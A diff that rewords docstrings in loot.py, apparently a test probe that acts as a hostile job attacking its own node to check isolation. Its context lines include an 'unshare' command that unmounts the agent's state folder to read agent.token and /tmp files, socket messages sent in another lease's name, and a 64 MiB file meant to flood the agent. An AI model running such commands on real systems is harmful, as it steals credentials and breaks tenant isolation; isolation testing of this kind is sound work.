@@ -1,7 +1,7 @@
-"""What a hostile job tries on its node. Runs as that job: standard library only, and tells all.
+"""Attacks of a hostile job on its node. Runs as that job: standard library only, and reports all.
 
-``loot.py TARGETS LOOT``: reads what there is to attack, and writes by attack what it got, or
-"refused: " and why.
+``loot.py TARGETS LOOT``: reads the targets, and writes by attack its loot, or "refused: "
+and the reason.
 """
 
 # Paths come as texts, and go as such.
@@ -68,7 +68,7 @@ def asking(told, path, token, body=None):
 
 
 def first(*tries):
-    """Return what the first try that succeeds brings."""
+    """Return the result of the first try that succeeds."""
     for attempt in tries:
         if not attempt.startswith("refused"):
             return attempt
@@ -97,7 +97,7 @@ def tracing(pids):
 
 
 def mounting(told):
-    """Become root of a user namespace, and look under what is mounted over the agent's folder."""
+    """Become root of a user namespace, and look under the mount over the agent's folder."""
     state = told["state"]
     script = f"umount {state} /proc; umount -l {state}; cat {state}/agent.token /tmp/*"
     command = ["unshare", "-Urm", "sh", "-c", script]
@@ -130,7 +130,7 @@ def becoming_root():
 
 
 def speaking_for(told):
-    """Tell the agent of steps in the name of another lease."""
+    """Report steps to the agent in the name of another lease."""
     said = []
     for path in (os.environ["LEASEHOLD_ENDPOINT"], told["state"] + "/jobs.sock"):
         with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as way:
@@ -202,7 +202,7 @@ def flooding():
 
 
 def telling_long_progress():
-    """Leave 64 MiB of empty lists where the agent looks for steps."""
+    """Leave 64 MiB of empty lists in the agent's file for steps."""
     path = os.environ["LEASEHOLD_PROGRESS_FILE"]
     with open(path, "wb") as file:
         file.write(b'{"steps_live": [' + b"[]," * (2**26 // 3 - 20) + b"[]]}")
